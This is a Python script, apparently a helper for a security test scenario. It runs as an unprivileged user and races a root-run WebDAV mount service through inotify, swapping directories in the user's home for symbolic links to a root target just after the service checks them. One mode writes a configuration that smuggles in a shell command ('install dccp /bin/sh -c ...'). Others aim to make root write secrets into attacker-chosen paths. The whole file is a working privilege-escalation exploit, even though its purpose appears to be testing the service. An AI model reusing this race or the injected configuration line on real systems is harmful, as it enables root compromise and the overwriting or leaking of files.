#!/usr/bin/env python3
"""A local user racing the mount service in their own home: watches with
inotify and swaps a directory for a symbolic link to a root directory at the
moment the service has checked it. Runs unprivileged (setpriv) until killed.

    racer.py mountpoint HOME VICTIM   ~/davfs/<name> becomes a link after root made it
    racer.py davfsdir HOME VICTIM     ~/.davfs2 becomes a link once root has read the conf
    racer.py secrets HOME VICTIM      ~/x becomes a link once root starts writing the conf
    racer.py afterwrite HOME VICTIM   ~/.davfs2 becomes a link once root has written the conf,
                                      before davfs2 starts

Each swap is logged on stdout ("swapped N"), so the scenario knows the race
was run. Delays after the event cycle through a range, so that the swap lands
in every part of the window between the service's check and its use.
"""

import ctypes
import itertools
import os
import struct
import sys
import time

IN_CREATE = 0x100
IN_CLOSE_NOWRITE = 0x10
IN_ATTRIB = 0x4
IN_MOVED_TO = 0x80
DELAYS_MS = [0, 0.2, 0.5, 1, 2, 4, 7, 10, 15, 25]

libc = ctypes.CDLL(None, use_errno=True)


class Inotify:
    def __init__(self):
        self.fd = libc.inotify_init1(0)
        if self.fd < 0:
            raise OSError(ctypes.get_errno(), "inotify_init1")
        self.watches = {}

    def watch(self, path, mask):
        wd = libc.inotify_add_watch(self.fd, path.encode(), mask)
        if wd < 0:
            raise OSError(ctypes.get_errno(), "inotify_add_watch " + path)
        self.watches[wd] = path
        return wd

    def unwatch(self, wd):
        libc.inotify_rm_watch(self.fd, wd)
        self.watches.pop(wd, None)

    def events(self):
        data = os.read(self.fd, 65536)
        off = 0
        while off < len(data):
            wd, mask, _cookie, length = struct.unpack_from("iIII", data, off)
            name = data[off + 16:off + 16 + length].rstrip(b"\0").decode()
            off += 16 + length
            yield wd, mask, name


def swapped(n):
    print("swapped %d" % n, flush=True)


def swap(path, victim, n):
    os.rename(path, "%s.old%d" % (path, n))
    os.symlink(victim, path)


def mountpoint(home, victim):
    base = os.path.join(home, "davfs")
    os.makedirs(base, exist_ok=True)
    ino = Inotify()
    ino.watch(base, IN_CREATE)
    delays = itertools.cycle(DELAYS_MS)
    n = 0
    while True:
        for _wd, _mask, name in ino.events():
            if ".old" in name or not name.startswith("share"):
                continue
            time.sleep(next(delays) / 1000)
            n += 1
            try:
                swap(os.path.join(base, name), victim, n)
                swapped(n)
            except OSError as e:
                print("swap failed: %s" % e, flush=True)


def fresh_davfs(home, conf_text, ino, old_wd):
    d = os.path.join(home, ".davfs2")
    if old_wd is not None:
        ino.unwatch(old_wd)
    if os.path.islink(d):
        os.unlink(d)
    elif os.path.isdir(d):
        os.rename(d, "%s.done%d" % (d, time.monotonic_ns()))
    os.mkdir(d, 0o755)
    with open(os.path.join(d, "davfs2_orvanta.conf"), "w") as f:
        f.write(conf_text)
    return ino.watch(d, IN_CLOSE_NOWRITE | IN_CREATE)


def filler():
    # Lines that make the service's reading slow, to widen the window.
    return "".join("# filler line %d to keep the reader busy\n" % i for i in range(1500))


def davfsdir(home, victim):
    conf = "install dccp /bin/sh -c 'touch /tmp/pwned'\nuse_locks 1\n" + filler()
    ino = Inotify()
    wd = fresh_davfs(home, conf, ino, None)
    delays = itertools.cycle(DELAYS_MS)
    n = 0
    while True:
        for ev_wd, mask, name in ino.events():
            if ev_wd != wd or not (mask & IN_CLOSE_NOWRITE) or name != "davfs2_orvanta.conf":
                continue
            time.sleep(next(delays) / 1000)
            n += 1
            swap(os.path.join(home, ".davfs2"), victim, n)
            swapped(n)
            # Long enough for the service to finish with it, then a fresh
            # directory for the next request.
            time.sleep(0.15)
            wd = fresh_davfs(home, conf, ino, ev_wd)


def secrets(home, victim):
    x = os.path.join(home, "x")
    conf = "use_locks 1\nsecrets %s/passwd\n" % x
    os.makedirs(x, exist_ok=True)
    ino = Inotify()
    wd = fresh_davfs(home, conf, ino, None)
    delays = itertools.cycle(DELAYS_MS)
    n = 0
    while True:
        for ev_wd, mask, name in ino.events():
            # The service writes the configuration (its ".tmp" file) after it
            # has judged the secrets path and before it writes the secrets.
            if ev_wd != wd or not (mask & IN_CREATE) or not name.endswith(".tmp"):
                continue
            time.sleep(next(delays) / 1000)
            n += 1
            swap(x, victim, n)
            swapped(n)
            time.sleep(0.15)
            os.unlink(x)
            os.mkdir(x)
            wd = fresh_davfs(home, conf, ino, ev_wd)


def afterwrite(home, victim):
    conf = "use_locks 1\nsecrets %s/secrets_orvanta\n" % victim
    ino = Inotify()
    fresh_davfs(home, conf, ino, None)
    wd = ino.watch(os.path.join(home, ".davfs2"), IN_MOVED_TO)
    n = 0
    while True:
        for ev_wd, mask, name in ino.events():
            # The service renames its finished file over the conf: from now
            # on only davfs2 is left to read it.
            if ev_wd != wd or not (mask & IN_MOVED_TO) or name != "davfs2_orvanta.conf":
                continue
            n += 1
            swap(os.path.join(home, ".davfs2"), victim, n)
            swapped(n)
            time.sleep(0.15)
            fresh_davfs(home, conf, ino, ev_wd)
            wd = ino.watch(os.path.join(home, ".davfs2"), IN_MOVED_TO)


MODES = {"mountpoint": mountpoint, "davfsdir": davfsdir, "secrets": secrets, "afterwrite": afterwrite}

if __name__ == "__main__":
    MODES[sys.argv[1]](sys.argv[2], sys.argv[3])
